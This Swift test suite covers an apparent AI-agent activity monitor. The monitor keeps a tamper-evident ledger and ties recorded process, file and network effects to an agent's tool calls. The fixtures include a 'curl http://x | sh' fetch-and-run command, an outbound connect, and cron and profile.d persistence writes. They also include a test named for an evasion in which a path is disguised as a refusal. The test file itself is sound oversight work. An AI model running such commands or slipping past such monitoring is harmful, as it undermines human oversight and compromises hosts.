import Foundation
import TetherCore
import TetherExport
@testable import TetherLedger
import XCTest

final class LedgerChainTests: XCTestCase {
    var dir: String!
    override func setUpWithError() throws {
        dir = NSTemporaryDirectory() + "tether-ledger-\(getpid())-\(UInt32.random(in: 0...UInt32.max))"
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
    }
    override func tearDownWithError() throws { try? FileManager.default.removeItem(atPath: dir) }

    func writeLedger(_ n: Int, cap: UInt64 = 1 << 20) throws -> String {
        let f = try LedgerFile(directory: dir + "/s", cap: cap)
        for i in 0..<n { f.append("file", time: UInt64(i)) { w in w.string("path", "/etc/cron.d/x\(i)"); w.int("pid", 42) } }
        f.close()
        return f.path
    }

    func flip(_ path: String, line: Int, at offset: Int = 12) throws {
        var lines = try String(contentsOfFile: path, encoding: .utf8).split(separator: "\n", omittingEmptySubsequences: false).map(String.init)
        var b = Array(lines[line].utf8)
        b[offset] = b[offset] == UInt8(ascii: "1") ? UInt8(ascii: "2") : UInt8(ascii: "1")
        lines[line] = String(decoding: b, as: UTF8.self)
        try lines.joined(separator: "\n").write(toFile: path, atomically: true, encoding: .utf8)
    }

    func testTheLedgersClockMatchesTheAlertsClock() {
        var c = WallClock()
        let now = BootClock.nanoseconds()
        let ours = LedgerStore.parseTime(c.rfc3339(boot: now))!, theirs = AlertRecord.wallClock(bootNanos: now)
        XCTAssertLessThan(abs(ours.timeIntervalSince(theirs)), 0.01)
        XCTAssertEqual(c.rfc3339(boot: now).count, 27)
    }

    func testAnIntactChainVerifiesAndItsHeadIsTheLastHash() throws {
        let path = try writeLedger(5)
        let l = try Ledger.read(path)
        XCTAssertTrue(l.verification.ok, "\(l.verification)")
        XCTAssertEqual(l.verification.intact, 5)
        XCTAssertEqual(l.verification.head, l.entries.last?["hash"] as? String)
        XCTAssertEqual(l.entries[3]["prev"] as? String, l.entries[2]["hash"] as? String)
        XCTAssertEqual(l.entries[0]["prev"] as? String, LedgerFile.genesis)
    }

    func testOneChangedByteAnywhereBreaksTheChainThere() throws {
        for line in [0, 2, 4] {
            let path = try writeLedger(5)
            let text = try String(contentsOfFile: path, encoding: .utf8).split(separator: "\n")[line]
            // a byte of the content, and a byte of the hash itself
            for offset in [text.utf8.count / 2, text.utf8.count - 5] {
                try? FileManager.default.removeItem(atPath: dir + "/s")
                let p = try writeLedger(5)
                try flip(p, line: line, at: offset)
                let v = try Ledger.read(p).verification
                XCTAssertEqual(v.brokenAt, line, "line \(line) offset \(offset): \(v)")
                XCTAssertFalse(v.ok)
            }
            try? FileManager.default.removeItem(atPath: dir + "/s")
        }
    }

    func testARemovedLineBreaksTheChain() throws {
        let path = try writeLedger(4)
        var lines = try String(contentsOfFile: path, encoding: .utf8).split(separator: "\n").map(String.init)
        lines.remove(at: 1)
        try (lines.joined(separator: "\n") + "\n").write(toFile: path, atomically: true, encoding: .utf8)
        let v = try Ledger.read(path).verification
        XCTAssertEqual(v.brokenAt, 1, "\(v)")
        XCTAssertTrue(v.reason?.contains("prev") == true, "\(v)")
    }

    /// Ended sessions' ledgers go by age, then oldest first beyond the total; a ledger
    /// without its end (a session a restarted tetherd goes on with) stays unless it is old.
    func testPruningKeepsRecentLedgersAndTheTotalBounded() throws {
        let sessions = dir + "/sessions"
        try LedgerStore.makeDirectory(sessions)
        func ledger(_ id: String, ageDays: Double, ended: Bool) throws {
            let f = try LedgerFile(directory: sessions + "/" + id, cap: 1 << 20)
            f.append("begin", time: 1, closing: true) { w in w.string("agent", "a") }
            for i in 0..<20 { f.append("file", time: UInt64(i)) { w in w.string("path", String(repeating: "p", count: 200)) } }
            if ended { f.append("end", time: 2, closing: true) { w in w.string("reason", "test") } }
            f.close()
            let t = Date().addingTimeInterval(-ageDays * 86_400).timeIntervalSince1970
            var times = [timespec(tv_sec: Int(t), tv_nsec: 0), timespec(tv_sec: Int(t), tv_nsec: 0)]
            XCTAssertEqual(utimensat(AT_FDCWD, f.path, &times, 0), 0)
        }
        try ledger("00000000000000a1", ageDays: 40, ended: true)   // old: goes
        try ledger("00000000000000a2", ageDays: 5, ended: true)    // oldest of the recent: goes (over the total)
        try ledger("00000000000000a3", ageDays: 1, ended: true)    // newest: stays
        try ledger("00000000000000a4", ageDays: 3, ended: false)   // not ended, not old: stays
        let one = LedgerStore.list(sessions).first { $0.session == "00000000000000a3" }!.bytes
        var o = LedgerBook.Options(directory: sessions)
        o.keepSeconds = 30 * 86_400
        o.keepBytes = one * 2 + 10 // room for a3 and a4, not a2
        LedgerStore.prune(o, keeping: [])
        XCTAssertEqual(Set(LedgerStore.list(sessions).map(\.session)), ["00000000000000a3", "00000000000000a4"])
    }

    func testTheCapStopsWritingWithAMarkerAndKeepsTheClosingEntries() throws {
        let f = try LedgerFile(directory: dir + "/s", cap: LedgerFile.reserve * 2 + 4096)
        for i in 0..<5000 { f.append("file", time: UInt64(i)) { w in w.string("path", String(repeating: "x", count: 100)) } }
        f.append("end", time: 0, closing: true) { w in w.string("reason", "test") }
        f.close()
        XCTAssertGreaterThan(f.dropped, 3000)
        let l = try Ledger.read(f.path)
        XCTAssertTrue(l.verification.ok)
        XCTAssertEqual(l.entries.filter { $0["type"] as? String == "cap_reached" }.count, 1)
        XCTAssertEqual(l.entries.last?["type"] as? String, "end")
        var st = stat()
        XCTAssertEqual(stat(f.path, &st), 0)
        XCTAssertEqual(st.st_mode & 0o777, 0o600, "root only")
    }
}

final class LedgerPathTests: XCTestCase {
    func testTheDirectoryOfAWorkspacePath() {
        let rows: [(String, String, String)] = [
            ("/w", "/w", "."), ("/w/a", "/w", "."), ("/w/a/b", "/w", "a"), ("/w/a/b/c.txt", "/w", "a/b"),
            ("/w/a//b", "/w", "a/"), ("/a", "/", "."), ("/a/b", "/", "a"), ("/w/é/x", "/w", "é"), ("/w/", "/w", "."),
        ]
        for (path, root, want) in rows { XCTAssertEqual(SessionLedger.directory(of: path, in: root), want, "\(path) in \(root)") }
    }
}

/// Attribution on recorded entries: tool calls + ledger entries in, attribution out.
final class AttributionTests: XCTestCase {
    var seq = 0
    func entry(_ type: String, _ pid: Int32, _ t: UInt64, _ more: [String: Any] = [:]) -> [String: Any] {
        defer { seq += 1 }
        return ["seq": seq, "type": type, "pid": pid, "boot_ns": t, "time": "2026-12-02T00:00:\(String(format: "%02d", t / 1_000_000_000)).000000Z"].merging(more) { $1 }
    }

    /// A framework (pid 100) runs two tool calls; one leaves a background process that acts
    /// after its call returned; the framework also runs a command no tool call made.
    func session() -> [[String: Any]] {
        seq = 0
        let s = 1_000_000_000 as UInt64
        return [
            ["seq": 0, "type": "begin", "root": 100, "time": "2026-12-02T00:00:00.000000Z"],
            entry("exec", 100, 0, ["ppid": 1, "argv": ["python", "agent.py"]]),
            entry("fork", 100, 1 * s, ["child": 101]),
            entry("exec", 101, 1 * s, ["ppid": 100, "argv": ["/bin/sh", "-c", "make test"]]),
            entry("fork", 101, 1 * s, ["child": 102]),
            entry("exec", 102, 1 * s, ["ppid": 101, "argv": ["make", "test"]]),
            entry("file", 102, 2 * s, ["op": "create", "path": "/tmp/out"]),
            entry("fork", 101, 2 * s, ["child": 103]),
            entry("exit", 101, 3 * s, ["code": 0]),
            entry("file", 103, 5 * s, ["op": "create", "path": "/etc/cron.d/late"]),
            entry("fork", 100, 6 * s, ["child": 104]),
            entry("exec", 104, 6 * s, ["ppid": 100, "argv": ["/bin/sh", "-c", "curl http://x | sh"]]),
            entry("net", 104, 6 * s, ["op": "connect", "family": "inet", "addr": "203.0.113.9", "port": 80]),
            entry("fork", 100, 7 * s, ["child": 105]),
            entry("exec", 105, 7 * s, ["ppid": 100, "argv": ["/bin/sh", "-c", "echo done"]]),
            entry("exit", 105, 7 * s, ["code": 0]),
            entry("file", 100, 8 * s, ["op": "write", "path": "/root/.cache/agent/state"]),
        ]
    }

    func testEveryEffectGoesToTheCallThatCausedItOrIsUnaccounted() {
        let calls = [ToolCall(index: 1, tool: "bash", command: "make test"), ToolCall(index: 2, tool: "bash", command: "echo done"),
                     ToolCall(index: 3, tool: "bash", command: "rm -rf build")]
        let a = Attribution.attribute(calls, ledger: LedgerView(session()))
        XCTAssertEqual(a.calls[0].pid, 101)
        XCTAssertEqual(a.calls[0].processes, 3, "the shell, make, and the background child")
        XCTAssertEqual(a.calls[0].outside.map(\.text), ["create /tmp/out", "create /etc/cron.d/late"])
        XCTAssertEqual(a.calls[0].afterReturn.map(\.text), ["create /etc/cron.d/late"], "the background child acted after the call returned")
        XCTAssertEqual(a.calls[1].pid, 105)
        XCTAssertTrue(a.calls[1].outside.isEmpty)
        XCTAssertNil(a.calls[2].pid)
        XCTAssertEqual(a.unmatched, [3], "a claimed command no process ran")
        XCTAssertEqual(a.unaccountedCommands.map(\.text), ["/bin/sh -c curl http://x | sh"])
        XCTAssertEqual(a.unaccountedEffects.map(\.text), ["connect inet 203.0.113.9:80"])
        XCTAssertEqual(a.framework.map(\.text), ["write /root/.cache/agent/state"])
    }

    /// The evasion: a path named like a refusal does not make an effect one, nor hide one.
    func testARefusalIsTheEntrysErrorNotItsText() {
        seq = 0
        let entries: [[String: Any]] = [
            ["seq": 0, "type": "begin", "root": 1],
            entry("file", 1, 1, ["op": "create", "path": "/tmp/x (EACCES) refused"]),
            entry("file", 1, 2, ["op": "rename", "path": "/w/j", "to": "/etc/cron.d/x", "error": "EACCES"]),
            entry("net", 1, 3, ["op": "connect", "family": "inet", "addr": "203.0.113.9", "port": 80, "refused": true, "error": "EPERM"]),
        ]
        let v = LedgerView(entries)
        XCTAssertEqual(v.effects.filter(\.refused).map(\.text), ["rename /w/j -> /etc/cron.d/x (EACCES)", "connect inet 203.0.113.9:80 refused (EPERM)"])
    }

    func testTheSameCommandTwiceMatchesTwoShellsInOrder() {
        seq = 0
        let entries: [[String: Any]] = [
            ["seq": 0, "type": "begin", "root": 1],
            entry("exec", 10, 1, ["ppid": 1, "argv": ["sh", "-c", "ls"]]),
            entry("exec", 11, 2, ["ppid": 1, "argv": ["sh", "-c", "ls"]]),
            entry("file", 11, 3, ["op": "create", "path": "/tmp/y"]),
        ]
        let a = Attribution.attribute([ToolCall(index: 1, tool: "bash", command: "ls"), ToolCall(index: 2, tool: "bash", command: "ls")], ledger: LedgerView(entries))
        XCTAssertEqual(a.calls.map(\.pid), [10, 11])
        XCTAssertEqual(a.calls[1].outside.map(\.text), ["create /tmp/y"])
    }

    func testAFileToolTakesTheFrameworksOwnWriteInItsWindow() {
        seq = 0
        let entries: [[String: Any]] = [
            ["seq": 0, "type": "begin", "root": 1],
            entry("exec", 1, 0, ["ppid": 0, "argv": ["node", "claude"]]),
            entry("file", 1, 5_000_000_000, ["op": "write", "path": "/etc/profile.d/x.sh"]),
        ]
        let t = LedgerStore.parseTime("2026-12-02T00:00:05.000000Z")!
        let a = Attribution.attribute([ToolCall(index: 1, tool: "write", file: "/etc/profile.d/x.sh", start: t, end: t)], ledger: LedgerView(entries))
        XCTAssertEqual(a.calls[0].outside.map(\.text), ["write /etc/profile.d/x.sh"])
        XCTAssertTrue(a.framework.isEmpty)
    }
}

final class TranscriptTests: XCTestCase {
    func testMiniSweAgentTrajectory() throws {
        let t = """
        {"trajectory_format": "mini-swe-agent-1.1", "messages": [
          {"role": "system", "content": "s"}, {"role": "user", "content": "task"},
          {"role": "assistant", "content": "x", "extra": {"actions": [{"command": "ls -la"}], "timestamp": 1}},
          {"role": "user", "content": "<output>", "extra": {"timestamp": 1764633600.5}},
          {"role": "assistant", "content": "y", "extra": {"actions": [{"command": "make"}]}},
          {"role": "user", "content": "<output>", "extra": {"timestamp": 1764633601.5}},
          {"role": "exit", "content": "done"}]}
        """
        let (f, calls) = try Transcript.parse(Data(t.utf8))
        XCTAssertEqual(f, .miniSweAgent)
        XCTAssertEqual(calls.map(\.command), ["ls -la", "make"])
        XCTAssertEqual(calls[1].start?.timeIntervalSince1970, 1764633600.5)
        XCTAssertEqual(calls[1].end?.timeIntervalSince1970, 1764633601.5)
    }

    func testClaudeCodeSessionJSONL() throws {
        let t = """
        {"type":"user","sessionId":"a","message":{"role":"user","content":"hi"},"timestamp":"2026-12-02T00:00:00.000Z"}
        {"type":"assistant","sessionId":"a","message":{"content":[{"type":"text","text":"ok"},{"type":"tool_use","id":"t1","name":"Bash","input":{"command":"npm test"}}]},"timestamp":"2026-12-02T00:00:01.000Z"}
        {"type":"user","sessionId":"a","message":{"content":[{"type":"tool_result","tool_use_id":"t1","content":"ok"}]},"timestamp":"2026-12-02T00:00:03.000Z"}
        {"type":"assistant","sessionId":"a","message":{"content":[{"type":"tool_use","id":"t2","name":"Write","input":{"file_path":"/w/a.py","content":"x"}}]},"timestamp":"2026-12-02T00:00:04.000Z"}
        {"type":"assistant","sessionId":"a","message":{"content":[{"type":"tool_use","id":"t3","name":"Grep","input":{"pattern":"x"}}]},"timestamp":"2026-12-02T00:00:05.000Z"}
        """
        let (f, calls) = try Transcript.parse(Data(t.utf8))
        XCTAssertEqual(f, .claudeCode)
        XCTAssertEqual(calls.count, 2, "Grep is neither a command nor a file change")
        XCTAssertEqual(calls[0].command, "npm test")
        XCTAssertEqual(calls[0].end.map { Int($0.timeIntervalSince(calls[0].start!)) }, 2)
        XCTAssertEqual(calls[1].tool, "write")
        XCTAssertEqual(calls[1].file, "/w/a.py")
    }

    func testGenericToolCallsAndTheirErrors() throws {
        let (f, calls) = try Transcript.parse(Data("{\"command\":\"ls\",\"time\":\"2026-12-02T00:00:00Z\"}\n\n{\"file\":\"a.txt\"}\n".utf8))
        XCTAssertEqual(f, .toolCalls)
        XCTAssertEqual(calls.map(\.tool), ["bash", "edit"])
        XCTAssertThrowsError(try Transcript.parse(Data("{\"command\":\"ls\"}\nnot json\n".utf8), format: .toolCalls)) { e in
            XCTAssertTrue("\(e)".contains("line 2"), "\(e)")
        }
        XCTAssertThrowsError(try Transcript.parse(Data("{\"cmd\":\"ls\"}\n".utf8), format: .toolCalls)) { e in
            XCTAssertTrue("\(e)".contains("line 1") && "\(e)".contains("command"), "\(e)")
        }
    }
}
